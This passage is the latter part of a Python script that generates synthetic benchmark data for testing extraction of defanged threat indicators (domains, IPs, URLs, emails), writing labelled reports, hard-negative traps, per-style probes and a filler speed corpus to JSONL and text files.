            doc.write(rng.choice(PROSE) + " ")
    doc.write("\n")
    return doc


# ---------------------------------------------------------------- speed corpus filler

FILLER_TEMPLATES = (
    "The {w} module exposes {c} and {c}; both return a handle that must be closed by the caller.",
    "Version {v} changed the default of {w}_{w} from {n} to {n}, see section {v} of the changelog.",
    "When {w} fails, the library retries {n} times with a back-off of {n} ms before raising {e}.",
    "Configuration lives in {f}; the keys {w}.{w} and {w}.{w} are read at start-up.",
    "A call to {c}() allocates {n} bytes per entry, so large inputs should be streamed instead.",
    "The {w} field is optional; when absent, {c} falls back to the value of {w}.",
    "Benchmarks on {n} cores show {n} requests per second with {w} enabled and {n} without it.",
)
FILLER_WORDS = ("buffer", "cursor", "parser", "token", "handle", "stream", "socket", "cache", "index", "schema",
                "record", "batch", "timeout", "encoder", "session", "worker", "queue", "channel")
FILLER_ERRORS = ("ValueError", "TimeoutError", "IOException", "KeyError", "ENOENT", "EAGAIN")


def filler_paragraph(rng):
    out = []
    for _ in range(rng.randint(3, 8)):
        out.append(rng.choice(FILLER_TEMPLATES).format_map(_Fill(rng)))
    return " ".join(out)


class _Fill(dict):
    def __init__(self, rng):
        super().__init__()
        self.rng = rng

    def __missing__(self, key):
        rng = self.rng
        if key == "w":
            return rng.choice(FILLER_WORDS)
        if key == "c":
            return rng.choice(CODE_TOKENS)
        if key == "v":
            return "%d.%d.%d" % (rng.randint(0, 9), rng.randint(0, 30), rng.randint(0, 99))
        if key == "n":
            return str(rng.randint(2, 5000))
        if key == "e":
            return rng.choice(FILLER_ERRORS)
        return rng.choice(FILE_STEMS) + "." + rng.choice(("toml", "yaml", "json", "ini"))


# ---------------------------------------------------------------- probes


PROBE_LINE = "Analysts saw a connection to {x} during the incident window."


def probes(rng, per_style):
    """One indicator per line, for a recall matrix per (type, defang style). Probes use every style, including
    the rare ones the documents leave out."""
    rows = []

    def add(kind, style, make):
        for _ in range(per_style):
            doc = Doc()
            text = make(doc)
            rows.append({"type": kind, "style": style, "text": PROBE_LINE.format(x=text),
                         "value": sorted(doc.labels[kind])[0]})

    for style in DOTS:
        add("domain", "dot:" + style, lambda d, s=style: domain_mention(rng, d, style=s))
        add("ipv4", "dot:" + style, lambda d, s=style: ipv4_mention(rng, d, style=s))
        add("url", "dot:" + style, lambda d, s=style: url_mention(rng, d, scheme_style="hxxp", dot_style=s, on_ip=False))
    for style in SCHEMES:
        add("url", "scheme:" + style, lambda d, s=style: url_mention(rng, d, scheme_style=s, dot_style="plain",
                                                                      on_ip=False))
    def path_slash(doc):
        text = url_mention(rng, doc, scheme_style="hxxp", dot_style="sq_dot", on_ip=False)
        scheme, rest = text.split("://", 1)
        return scheme + "://" + rest.replace("/", "[/]", 1)

    add("url", "path:slash_sq", path_slash)
    add("url", "scheme:fxp", lambda d: url_mention(rng, d, scheme_style="hxxp", dot_style="plain", on_ip=False,
                                                   scheme="ftp"))
    for style in ATS:
        add("email", "at:" + style, lambda d, s=style: email_mention(rng, d, at_style=s,
                                                                     dot_style="plain" if s == "plain" else "sq_dot"))
    return rows


# ---------------------------------------------------------------- main


def write_jsonl(path, records):
    with open(path, "w", encoding="utf-8", newline="\n") as out:
        for rec in records:
            out.write(json.dumps(rec, ensure_ascii=False, sort_keys=True) + "\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    ap.add_argument("--out", required=True, help="output directory (created)")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--docs", type=int, default=400, help="labelled documents")
    ap.add_argument("--traps", type=int, default=100, help="documents holding only hard negatives")
    ap.add_argument("--probes", type=int, default=25, help="probes per (type, style)")
    ap.add_argument("--mb", type=float, default=0, help="MiB of speed corpus (0: none)")
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    # One generator per artefact, each seeded from --seed: changing --mb or --traps never changes the documents.
    seeds = random.Random(a.seed)
    acc, trp, prb, spd = (random.Random(seeds.getrandbits(64)) for _ in range(4))
    write_jsonl(os.path.join(a.out, "accuracy.jsonl"),
                (report(acc, acc.randint(2000, 12000)).record(i) for i in range(a.docs)))
    write_jsonl(os.path.join(a.out, "traps.jsonl"), (trap(trp).record(i) for i in range(a.traps)))
    write_jsonl(os.path.join(a.out, "probes.jsonl"), probes(prb, a.probes))
    if a.mb > 0:
        target = int(a.mb * 1024 * 1024)
        written = docs = labelled = 0
        with open(os.path.join(a.out, "speed_corpus.txt"), "w", encoding="utf-8", newline="\n") as out:
            while written < target:
                doc = report(spd, spd.randint(3000, 40000), filler=True)
                text = "".join(doc.chunks) + "\n\f\n"
                out.write(text)
                written += len(text.encode("utf-8"))
                docs += 1
                labelled += sum(len(v) for v in doc.labels.values())
        print("speed corpus: %d bytes, %d documents, %d labelled indicators" % (written, docs, labelled))


if __name__ == "__main__":
    main()
